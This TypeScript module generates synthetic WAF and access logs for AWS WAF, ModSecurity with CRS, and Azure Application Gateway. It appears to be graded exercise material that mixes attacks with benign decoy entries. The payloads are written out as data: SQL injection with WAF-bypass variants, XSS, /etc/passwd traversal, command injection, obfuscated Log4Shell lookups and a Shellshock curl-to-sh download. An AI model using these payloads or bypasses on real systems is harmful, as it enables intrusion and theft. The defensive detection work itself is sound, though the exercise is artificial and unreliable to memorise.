// Round 7 WAF logs, written as the products write them: AWS WAF full logs (JSON lines), ModSecurity
// 2.x with OWASP CRS in anomaly-scoring mode in Apache's error log beside the access log, Azure
// Application Gateway WAF in detection mode, and a combined access log whose attacks ride in headers.

const T0 = Date.UTC(2026, 2, 10, 9, 0, 0);
const ACL = 'arn:aws:wafv2:eu-west-1:123456789012:regional/webacl/shop-acl/5f1c2d3e-4a5b-6c7d-8e9f-0a1b2c3d4e5f';

interface AwsReq { ms: number; ip: string; country: string; method: string; uri: string; args: string; ua: string | null; host?: string; action: 'ALLOW' | 'BLOCK'; group?: string; rule?: string; kind?: string; location?: string; counted?: [string, string] }

/** One AWS WAF v2 full-log record: the rule group that terminated it, or the default action with COUNT rules that matched. */
export function awsRecord(r: AwsReq, n: number): string {
  const headers = [{ name: 'Host', value: r.host ?? 'shop.example.com' }, ...(r.ua !== null ? [{ name: 'User-Agent', value: r.ua }] : []), { name: 'Accept', value: '*/*' }];
  const terminated = r.group !== undefined;
  return JSON.stringify({
    timestamp: r.ms,
    formatVersion: 1,
    webaclId: ACL,
    terminatingRuleId: terminated ? `AWS-${r.group}` : 'Default_Action',
    terminatingRuleType: terminated ? 'MANAGED_RULE_GROUP' : 'REGULAR',
    action: r.action,
    terminatingRuleMatchDetails: r.kind ? [{ conditionType: r.kind, sensitivityLevel: 'LOW', location: r.location ?? 'QUERY_STRING', matchedData: ['1', "'"] }] : [],
    httpSourceName: 'ALB',
    httpSourceId: '123456789012-app/shop-alb/7d1e2f3a4b5c6d7e',
    ruleGroupList: [
      terminated
        ? { ruleGroupId: `AWS#${r.group}`, terminatingRule: { ruleId: r.rule, action: 'BLOCK', ruleMatchDetails: null }, nonTerminatingMatchingRules: [], excludedRules: null, customerConfig: null }
        : { ruleGroupId: `AWS#${r.counted?.[0] ?? 'AWSManagedRulesCommonRuleSet'}`, terminatingRule: null, nonTerminatingMatchingRules: r.counted ? [{ ruleId: r.counted[1], action: 'COUNT', ruleMatchDetails: [] }] : [], excludedRules: null, customerConfig: null },
    ],
    rateBasedRuleList: [],
    nonTerminatingMatchingRules: [],
    requestHeadersInserted: null,
    responseCodeSent: null,
    httpRequest: { clientIp: r.ip, country: r.country, headers, uri: r.uri, args: r.args, httpVersion: 'HTTP/1.1', httpMethod: r.method, requestId: `1-65ed8a${(n + 0x1000).toString(16)}-5c0a1b2c3d4e5f6a7b8c9d0e` },
    labels: terminated ? [{ name: `awswaf:managed:aws:${r.group}:${r.rule}` }] : [],
  });
}

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36';

/**
 * AWS WAF in front of the shop: 185.220.101.45 throws 240 SQL injection, XSS and traversal probes
 * the managed groups block, and gets through with inline-comment SQL injection no rule matched and a
 * Log4Shell lookup in the User-Agent that KnownBadInputs only counts; the company's own Nessus
 * scanner at 10.20.0.15 is blocked 150 times and nothing of it gets through; the ALB health
 * checker has no User-Agent (NoUserAgent_HEADER, counted); shoppers browse.
 */
export function awsWaf(): string[] {
  const reqs: AwsReq[] = [];
  const atk = '185.220.101.45';
  const probes: [string, string, string, string, string][] = [
    ['/products.php', "id=1'%20or%20'1'='1", 'AWSManagedRulesSQLiRuleSet', 'SQLi_QUERYARGUMENTS', 'SQL_INJECTION'],
    ['/products.php', 'id=1%20union%20select%20null,version()--', 'AWSManagedRulesSQLiRuleSet', 'SQLi_QUERYARGUMENTS', 'SQL_INJECTION'],
    ['/search', 'q=%3Cscript%3Ealert(document.domain)%3C/script%3E', 'AWSManagedRulesCommonRuleSet', 'CrossSiteScripting_QUERYARGUMENTS', 'XSS'],
    ['/download', 'file=../../../../etc/passwd', 'AWSManagedRulesCommonRuleSet', 'GenericLFI_QUERYARGUMENTS', ''],
  ];
  for (let i = 0; i < 240; i++) {
    const [uri, args, group, rule, kind] = probes[i % probes.length]!;
    reqs.push({ ms: T0 + 600_000 + i * 4_000, ip: atk, country: 'DE', method: 'GET', uri, args: `${args}&n=${i}`, ua: 'Mozilla/5.0 (X11; Linux x86_64)', action: 'BLOCK', group, rule, kind: kind || undefined });
  }
  // what got through: MySQL version comments split the keywords the SQLi group looks for
  for (let i = 0; i < 6; i++) {
    reqs.push({ ms: T0 + 1_700_000 + i * 9_000, ip: atk, country: 'DE', method: 'GET', uri: '/products.php', args: `id=1%20/*!50000UnIoN*/%20/*!50000SeLeCt*/%201,concat(user,0x3a,password),3%20from%20users%20limit%20${i},1--%20-`, ua: 'Mozilla/5.0 (X11; Linux x86_64)', action: 'ALLOW' });
  }
  // …and a Log4Shell lookup in the User-Agent, which KnownBadInputs is set to COUNT
  reqs.push({ ms: T0 + 1_800_000, ip: atk, country: 'DE', method: 'GET', uri: '/api/v2/cart', args: '', ua: '${${lower:j}ndi:ldap://185.220.101.45:1389/Basic/Command/Base64/aWQ=}', action: 'ALLOW', counted: ['AWSManagedRulesKnownBadInputsRuleSet', 'Log4JRCE_HEADER'] });

  // trap: the company's own Nessus scan from inside, every probe blocked
  const nessus: [string, string, string, string][] = [
    ['/index.php', "page=../../../../../../etc/passwd", 'AWSManagedRulesCommonRuleSet', 'GenericLFI_QUERYARGUMENTS'],
    ['/cgi-bin/test.cgi', 'x=%3Cscript%3Ealert(%27nessus%27)%3C/script%3E', 'AWSManagedRulesCommonRuleSet', 'CrossSiteScripting_QUERYARGUMENTS'],
    ['/login.php', "user=admin'--&pass=x", 'AWSManagedRulesSQLiRuleSet', 'SQLi_QUERYARGUMENTS'],
  ];
  for (let i = 0; i < 150; i++) {
    const [uri, args, group, rule] = nessus[i % nessus.length]!;
    reqs.push({ ms: T0 + 3_600_000 + i * 6_000, ip: '10.20.0.15', country: '-', method: 'GET', uri, args, ua: 'Mozilla/5.0 (compatible; Nessus SOAP)', action: 'BLOCK', group, rule });
  }
  // trap: the load balancer's health checks carry no User-Agent: a COUNT rule matches, nothing is blocked
  for (let i = 0; i < 120; i++) reqs.push({ ms: T0 + i * 30_000, ip: `10.0.${i % 2}.${11 + (i % 3)}`, country: '-', method: 'GET', uri: '/health', args: '', ua: null, host: '10.0.1.20', action: 'ALLOW', counted: ['AWSManagedRulesCommonRuleSet', 'NoUserAgent_HEADER'] });
  // shoppers
  const pages = ['/', '/products.php', '/search', '/cart', '/static/app.js'];
  for (let i = 0; i < 300; i++) {
    const page = pages[i % pages.length]!;
    reqs.push({ ms: T0 + i * 12_000, ip: `81.2.${69 + (i % 7)}.${(i * 37) % 250}`, country: 'GB', method: 'GET', uri: page, args: page === '/search' ? 'q=union+select+committee' : page === '/products.php' ? `id=${i % 40}` : '', ua: BROWSER, action: 'ALLOW' });
  }
  return reqs.sort((a, b) => a.ms - b.ms).map((r, i) => awsRecord(r, i));
}

const pad = (n: number): string => String(n).padStart(2, '0');
const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
/** Apache 2.4's error-log time, `Tue Mar 10 09:00:00.123456 2026` (UTC). */
const apacheErrTime = (ms: number): string => {
  const d = new Date(ms);
  return `${DAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${pad(d.getUTCDate())} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}.${String(d.getUTCMilliseconds() * 1000).padStart(6, '0')} ${d.getUTCFullYear()}`;
};
/** The access log's `10/Mar/2026:09:00:00 +0000`. */
const clf = (ms: number): string => {
  const d = new Date(ms);
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
};

const CRS = '/usr/share/modsecurity-crs/rules';

/** One ModSecurity 2.9 message as Apache writes it (mod_security2, CRS 3.3). */
function modsecLine(ms: number, ip: string, port: number, text: string, file: string, line: number, id: string, msg: string, data: string, severity: string, tags: string[], host: string, uri: string, uid: string): string {
  return `[${apacheErrTime(ms)}] [security2:error] [pid 2817:tid 140213361366784] [client ${ip}:${port}] [client ${ip}] ModSecurity: ${text} [file "${CRS}/${file}"] [line "${line}"] [id "${id}"] [msg "${msg}"] [data "${data}"] [severity "${severity}"] [ver "OWASP_CRS/3.3.5"] ${tags.map((t) => `[tag "${t}"]`).join(' ')} [hostname "${host}"] [uri "${uri}"] [unique_id "${uid}"]`;
}

/**
 * ModSecurity with CRS in anomaly-scoring mode in front of an Apache shop, the error log and the
 * access log side by side: sqlmap from 45.146.164.110 is blocked 120 times (each request a 942100
 * warning, then the 949110 block), and gets a double-encoded time-based injection through that the
 * WAF decoded only once (answered 200, no WAF line); the load balancer's health checks by numeric
 * Host set off 920350 warnings that block nothing.
 */
export function modsecApache(): { error: string[]; access: string[] } {
  const error: string[] = [];
  const access: string[] = [];
  const atk = '45.146.164.110';
  const ua = 'sqlmap/1.8.2#stable (https://sqlmap.org)';
  for (let i = 0; i < 120; i++) {
    const ms = T0 + 7_200_000 + i * 5_000;
    const uid = `ZeiZ${(96000 + i).toString(36)}wRAAEAAAsBJ1cAAAA${String.fromCharCode(65 + (i % 26))}`;
    const q = `id=1%27%20AND%20${1000 + i}=${1000 + i}%20AND%20%27a%27=%27a`;
    error.push(modsecLine(ms, atk, 40000 + i, "Warning. detected SQLi using libinjection with fingerprint 's&1c' ", 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf', 46, '942100', 'SQL Injection Attack Detected via libinjection', `Matched Data: s&1c found within ARGS:id: 1' AND ${1000 + i}=${1000 + i} AND 'a'='a`, 'CRITICAL', ['application-multi', 'language-multi', 'platform-multi', 'attack-sqli', 'paranoia-level/1', 'OWASP_CRS', 'capec/1000/152/248/66', 'PCI/6.5.2'], 'shop.example.com', '/products.php', uid));
    error.push(modsecLine(ms + 1, atk, 40000 + i, "Access denied with code 403 (phase 2). Matched \"Operator `Ge' with parameter `5' against variable `TX:ANOMALY_SCORE' (Value: `5' )", 'REQUEST-949-BLOCKING-EVALUATION.conf', 80, '949110', 'Inbound Anomaly Score Exceeded (Total Score: 5)', '', 'CRITICAL', ['application-multi', 'language-multi', 'platform-multi', 'attack-generic'], 'shop.example.com', '/products.php', uid));
    access.push(`${atk} - - [${clf(ms)}] "GET /products.php?${q} HTTP/1.1" 403 199 "-" "${ua}"`);
  }
  // through: %2527 is a quote after two decodings; the WAF decoded once and saw %27 as text
  for (let i = 0; i < 4; i++) {
    const ms = T0 + 7_900_000 + i * 7_000;
    access.push(`${atk} - - [${clf(ms)}] "GET /products.php?id=1%2527%2520AND%2520SLEEP(5)--%2520-${i} HTTP/1.1" 200 8312 "-" "${ua}"`);
  }
  // trap: the balancer's health checks by address set off 920350 (a warning, score 3, under the threshold 5)
  for (let i = 0; i < 90; i++) {
    const ms = T0 + i * 60_000;
    const ip = `10.0.0.${5 + (i % 2)}`;
    error.push(modsecLine(ms, ip, 50000 + i, 'Warning. Pattern match "^[\\\\d.:]+$" at REQUEST_HEADERS:Host.', 'REQUEST-920-PROTOCOL-ENFORCEMENT.conf', 736, '920350', 'Host header is a numeric IP address', '10.0.1.15', 'WARNING', ['application-multi', 'language-multi', 'platform-multi', 'attack-protocol', 'paranoia-level/1', 'OWASP_CRS'], '10.0.1.15', '/healthz', `Zei${(10000 + i).toString(36)}QAAAAAAAAAAAAAAAAAA`));
    access.push(`${ip} - - [${clf(ms)}] "GET /healthz HTTP/1.1" 200 2 "-" "ELB-HealthChecker/2.0"`);
  }
  for (let i = 0; i < 200; i++) {
    const ms = T0 + i * 40_000;
    access.push(`81.2.${69 + (i % 9)}.${(i * 53) % 250} - - [${clf(ms)}] "GET ${['/', '/products.php?id=' + (i % 30), '/cart', '/static/site.css'][i % 4]} HTTP/1.1" 200 ${4000 + i} "https://shop.example.com/" "${BROWSER}"`);
  }
  const order = (l: string): number => {
    const m = /\[(\d{2})\/Mar\/2026:(\d{2}):(\d{2}):(\d{2})/.exec(l) ?? /Mar 10 (\d{2}):(\d{2}):(\d{2})\.(\d{3})/.exec(l);
    return m ? Number(m.slice(1).join('')) : 0;
  };
  return { error: error.sort((a, b) => order(a) - order(b)), access: access.sort((a, b) => order(a) - order(b)) };
}

/** One Azure Application Gateway WAF record (ApplicationGatewayFirewallLog, CRS 3.2). */
function appGw(ms: number, ip: string, uri: string, ruleId: string, group: string, msg: string, action: string, host: string, txn: string, data: string): string {
  return JSON.stringify({
    timeStamp: new Date(ms).toISOString().replace('.000Z', '+00:00'),
    resourceId: '/SUBSCRIPTIONS/6F1A2B3C-0000-4D5E-8F90-123456789ABC/RESOURCEGROUPS/RG-PORTAL/PROVIDERS/MICROSOFT.NETWORK/APPLICATIONGATEWAYS/PORTAL-APPGW',
    operationName: 'ApplicationGatewayFirewall',
    category: 'ApplicationGatewayFirewallLog',
    properties: { instanceId: 'appgw_1', clientIp: ip, clientPort: '', requestUri: uri, ruleSetType: 'OWASP_CRS', ruleSetVersion: '3.2', ruleId, ruleGroup: group, message: msg, action, site: 'Global', details: { message: `Warning. Pattern match at ${data ? 'ARGS' : 'REQUEST_HEADERS:Host'}. `, data, file: `rules/${group}.conf`, line: '500' }, hostname: host, transactionId: txn, policyId: 'default', policyScope: 'Global', policyScopeName: 'Global' },
  });
}

/**
 * Azure Application Gateway WAF left in detection mode: 91.240.118.172's Unix command injection
 * against the portal's CGI is matched and "Detected", never blocked; the gateway's own health probes
 * by address set off 920350 Matched on every probe.
 */
export function azureDetection(): string[] {
  const out: { ms: number; line: string }[] = [];
  const atk = '91.240.118.172';
  for (let i = 0; i < 14; i++) {
    const ms = T0 + 10_800_000 + i * 20_000;
    const txn = `7e${(0x5a000000 + i).toString(16)}c0ffee0000000000000000`;
    const uri = `/cgi-bin/admin.cgi?host=127.0.0.1;cat%20/etc/passwd;id&n=${i}`;
    out.push({ ms, line: appGw(ms, atk, uri, '932100', 'REQUEST-932-APPLICATION-ATTACK-RCE', 'Remote Command Execution: Unix Command Injection', 'Matched', 'portal.example.com', txn, `Matched Data: ;cat found within ARGS:host: 127.0.0.1;cat /etc/passwd;id`) });
    out.push({ ms: ms + 1, line: appGw(ms + 1, atk, uri, '949110', 'REQUEST-949-BLOCKING-EVALUATION', 'Mandatory rule. Cannot be disabled. Inbound Anomaly Score Exceeded (Total Score: 5)', 'Detected', 'portal.example.com', txn, '') });
  }
  for (let i = 0; i < 60; i++) {
    const ms = T0 + i * 30_000;
    out.push({ ms, line: appGw(ms, `10.1.0.${4 + (i % 2)}`, '/', '920350', 'REQUEST-920-PROTOCOL-ENFORCEMENT', 'Host header is a numeric IP address', 'Matched', '10.1.0.10', `1f${(0x10000000 + i).toString(16)}0000000000000000000000`, '') });
  }
  return out.sort((a, b) => a.ms - b.ms).map((o) => o.line);
}

/**
 * A combined access log whose attacks ride in headers: Shellshock and Log4Shell (plain, with
 * lookups hiding the keyword, percent-encoded) in the User-Agent, a time-based SQL injection in
 * the User-Agent, XSS in the Referer; beside them the long agents of in-app browsers and referrers
 * from searches for SQL words.
 */
export function headerAttacks(): string[] {
  const rows: [string, string, string, string][] = [
    ['203.0.113.10', '/cgi-bin/status', '-', "() { :; }; /bin/bash -c 'curl -s http://203.0.113.10/x.sh | sh'"],
    ['203.0.113.11', '/', '-', '${jndi:ldap://203.0.113.11:1389/Exploit}'],
    ['203.0.113.12', '/', '-', '${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://203.0.113.12/a}'],
    ['203.0.113.13', '/', '-', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.203.0.113.13.nip.io/a}'],
    ['203.0.113.17', '/', '-', '%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.17%2Fa%7D'],
    ['203.0.113.14', '/products', '-', "Mozilla/5.0' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -"],
    ['203.0.113.15', '/contact', 'https://shop.example.com/\\"><script>alert(document.cookie)</script>', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'],
    // traps
    ['198.51.100.50', '/news', 'https://www.google.com/search?q=union+select+committee+members', BROWSER],
    ['198.51.100.51', '/shop/lamps', 'https://www.bing.com/search?q=drop+table+lamp&form=QBLH', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15'],
    ['198.51.100.52', '/', '-', 'Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/122.0.6261.64 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/451.0.0.45.109;] [FBAN/EMA;FBLC/en_US;FBAV/396.0.0.11.110;]'],
    ['198.51.100.53', '/', 'https://duckduckgo.com/?q=%22select+*+from%22+tutorial&t=h_', 'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0'],
    ['198.51.100.54', '/', 'https://forum.example.org/t/what-does-()-{-mean-in-bash/123', 'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0'],
    ['198.51.100.55', '/', "https://www.google.com/search?q=o'reilly+%24%7Bvariable%7D+in+bash", 'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0'],
    ['198.51.100.56', '/', '-', 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; \\"Tablet PC 2.0\\")'],
  ];
  return rows.map(([ip, path, ref, ua], i) => `${ip} - - [${clf(T0 + 14_400_000 + i * 61_000)}] "GET ${path} HTTP/1.1" 200 ${5120 + i} "${ref}" "${ua}"`);
}
